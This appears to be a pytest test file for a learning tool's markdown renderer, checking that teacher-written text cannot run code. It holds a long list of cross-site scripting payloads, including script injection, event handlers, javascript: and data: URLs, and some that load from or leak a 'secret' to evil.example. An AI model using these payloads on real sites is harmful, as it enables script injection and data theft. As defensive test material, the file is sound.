"""What teachers write is shown as they meant it, and nothing in it can act (ATK-81, 82, 86, 87)."""

import ast
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from lti_tool.core import markdown

HARMLESS = {
    *("p", "br", "hr", "h3", "h4", "h5", "blockquote", "ul", "ol", "li", "pre", "code"),
    *("strong", "em", "s", "a", "table", "thead", "tbody", "tr", "th", "td"),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.gif'>",
    "<IMG SRC=javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x][p]\n\n[p]: https://evil.example/p.gif",
    '![x](https://evil.example/p.gif "onerror=alert(1)")',
    '![" onerror="alert(1)](x)',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](mailto:ada@example.org)",
    "[x](//evil.example)",
    "[x](/s/1/content/picker)",
    "[x](?next=https://evil.example)",
    "[x](#top)",
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example/\"onmouseover='alert(1)')",
    "[x](<https://ok.example/ onclick=alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=https://ok.example onclick=alert(1)>x</a>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=x></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!-- unclosed",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<p style='background:url(https://evil.example)' class=modal>x</p>",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | c |",
    "# <script>alert(1)</script>",
    "1. <svg/onload=alert(1)>\n2. b",
    "</p></div><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>alert(1)</script>",
    "x\x00<script>alert(1)</script>",
]


class Found(HTMLParser):
    """What a browser would find in the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)


def assert_harmless(html: str) -> None:
    found = Found(html)
    assert found.tags <= HARMLESS
    assert found.others == []
    for tag, name, value in found.attributes:
        match tag, name:
            case "a", "href":
                assert value.startswith(("https://", "http://"))
            case "a", "target":
                assert value == "_blank"
            case "a", "rel":
                assert value == "noopener noreferrer"
            case "ol", "start":
                assert value.isdigit()
            case _:
                pytest.fail(f"{name} on {tag}")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_text_can_act(attack: str) -> None:
    assert_harmless(markdown.render(attack))


@given(st.lists(st.sampled_from([*ATTACKS, "\n\n", "> ", "- ", "|", "`", "**", "[", "](", "<"])))
@settings(max_examples=200, deadline=None)
def test_nothing_in_a_mixture_of_attacks_can_act(parts: list[str]) -> None:
    assert_harmless(markdown.render("".join(parts)))


def test_html_is_shown_as_it_was_typed() -> None:
    html = markdown.render("Was macht <script> in HTML?")

    assert Found(html).text.strip() == "Was macht <script> in HTML?"


def test_a_template_expression_is_only_text() -> None:
    assert markdown.render("{{ 7 * 7 }}") == "<p>{{ 7 * 7 }}</p>\n"


def test_a_link_opens_a_new_tab_and_tells_nothing_about_us() -> None:
    html = markdown.render("[Lexikon](https://lexikon.example/a?b=1&c=2)")

    assert html == (
        '<p><a href="https://lexikon.example/a?b=1&amp;c=2" target="_blank"'
        ' rel="noopener noreferrer">Lexikon</a></p>\n'
    )


def test_instead_of_a_picture_stands_its_description() -> None:
    assert markdown.render("Sieh: ![Blatt <i>](https://evil.example/b.png)") == (
        "<p>Sieh: Blatt &lt;i&gt;</p>\n"
    )


def test_headings_go_below_those_of_the_page() -> None:
    html = markdown.render("# Eins\n\n## Zwei\n\n#### Vier")

    assert html == "<h3>Eins</h3>\n<h4>Zwei</h4>\n<h5>Vier</h5>\n"


def test_tables_lists_and_emphasis_stay() -> None:
    html = markdown.render("3. *a*\n4. **b**\n\n| x | y |\n|---|--:|\n| ~~1~~ | `2` |")

    tags = {"ol", "li", "em", "strong", "table", "thead", "tbody", "tr", "th", "td", "s", "code"}
    assert Found(html).tags == tags
    assert '<ol start="3">' in html


def test_plain_text_keeps_the_words_and_drops_the_marks() -> None:
    text = "# Licht & Luft\n\n* **Warum** <b>?\n* [dort](https://a.example)\n\n"
    text += "| a | b |\n|---|---|\n| 1 | 2 |"

    assert markdown.plain(text) == "Licht & Luft\nWarum <b>?\ndort\na | b\n1 | 2"


def test_trusted_html_goes_into_a_template_unchanged() -> None:
    assert markdown.trusted("<p>a</p>") == Markup("<p>a</p>")


def test_no_other_module_calls_html_safe() -> None:
    package = Path(markdown.__file__).parents[1]
    calling = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if "practice_lms" not in path.parts and _calls_something_unknown_safe(path)
    }
    templates = [
        path
        for path in package.rglob("*.html")
        if "practice_lms" not in path.parts and "|safe" in path.read_text("utf-8").replace(" ", "")
    ]

    assert calling == {"core/markdown.py"}
    assert templates == []


def _calls_something_unknown_safe(path: Path) -> bool:
    """A literal is safe to call safe: `Markup("<b>{}</b>").format(…)` escapes what it is given."""
    return any(
        isinstance(node, ast.Call)
        and getattr(node.func, "id", getattr(node.func, "attr", "")) == "Markup"
        and not all(isinstance(argument, ast.Constant) for argument in node.args)
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
    )


@pytest.mark.parametrize(
    "formula",
    [
        r"$a*b*c$",
        r"$\frac{1}{2}$",
        r"\(x_1 \, y_2\)",
        r"$$\begin{pmatrix} 1 \\ 2 \end{pmatrix}$$",
        r"\[a < b\]",
    ],
)
def test_a_formula_stays_as_it_was_typed(formula: str) -> None:
    assert (
        unescape(markdown.render(f"Berechne {formula} genau."))
        == f"<p>Berechne {formula} genau.</p>\n"
    )
    assert markdown.plain(f"Berechne {formula} genau.") == f"Berechne {formula} genau."


def test_a_price_is_no_formula() -> None:
    assert markdown.render("*5 $* und *10 $*, oder $5 und $10") == (
        "<p><em>5 $</em> und <em>10 $</em>, oder $5 und $10</p>\n"
    )


def test_markup_inside_of_a_formula_is_shown_and_not_done() -> None:
    html = markdown.render(r"$<script>alert(1)</script>$ und $\href{javascript:alert(1)}{x}$")

    assert "<script" not in html
    assert "<a" not in html
